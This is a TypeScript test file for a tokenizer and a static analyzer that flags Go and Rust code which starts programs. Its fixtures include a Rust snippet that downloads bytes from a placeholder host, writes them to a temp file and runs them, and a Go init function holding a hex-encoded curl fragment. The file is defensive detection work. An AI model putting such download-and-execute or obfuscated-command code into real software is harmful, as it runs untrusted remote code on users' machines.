import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { tokenizeNative } from '../lang/native-tokens.ts';
import { analyzeNative } from './native-code.ts';

describe('Go and Rust tokens', () => {
  it('reads raw strings, escapes, nested block comments and keeps line comments and lines', () => {
    const rust = tokenizeNative('/* a /* nested */ still */ let s = r#"a "q" b"#;\n// c\nlet t = "x\\u{41}\\n";', 'rust');
    assert.deepEqual(
      rust.filter(t => t.kind === 'string' || t.kind === 'comment').map(t => [t.kind, t.text, t.line]),
      [
        ['string', 'a "q" b', 1],
        ['comment', ' c', 2],
        ['string', 'xA\n', 3],
      ],
    );
    const go = tokenizeNative('x := `multi\nline`\ny := "\\x41"', 'go');
    assert.deepEqual(
      go.filter(t => t.kind === 'string').map(t => [t.text, t.line]),
      [
        ['multi\nline', 1],
        ['A', 3],
      ],
    );
  });
});

describe('analyzeNative', () => {
  it('names the commands a program starts, through constants and decoded constants', () => {
    const go = analyzeNative(
      'const sh = "sh"\nfunc init() {\n\tc, _ := hex.DecodeString("6375726c202d73206874747073")\n\t_ = c\n\texec.Command(sh, "-c", "make gen").Run()\n}',
      'go',
    );
    assert.deepEqual(go.commands, [{ command: "sh -c 'make gen'", line: 5 }]);
    assert.ok(go.capabilities.includes('decoded'));
    const rust = analyzeNative('fn main() { Command::new("protoc").args(["--version"]).status().ok(); }', 'rust');
    assert.deepEqual(rust.commands, [{ command: 'protoc --version', line: 1 }]);
    assert.equal(rust.tier, 'none');
  });

  it('is decisive when fetched or embedded bytes are written and a program it does not name is started', () => {
    const v = analyzeNative(
      'fn main() {\n let b = reqwest::blocking::get("https://x.example.invalid").unwrap().bytes().unwrap();\n let p = std::env::temp_dir().join("t");\n std::fs::write(&p, &b).unwrap();\n Command::new(&p).spawn().ok();\n}',
      'rust',
    );
    assert.equal(v.tier, 'decisive');
    assert.equal(v.line, 5);
    // A toolchain the environment names is not a written file.
    const tool = analyzeNative(
      'const T: &str = include_str!("t.in");\nfn main() { let rustc = env::var("RUSTC").unwrap(); fs::write("o", T).unwrap(); Command::new(rustc).output().ok(); }',
      'rust',
    );
    assert.equal(tool.tier, 'none');
  });
});
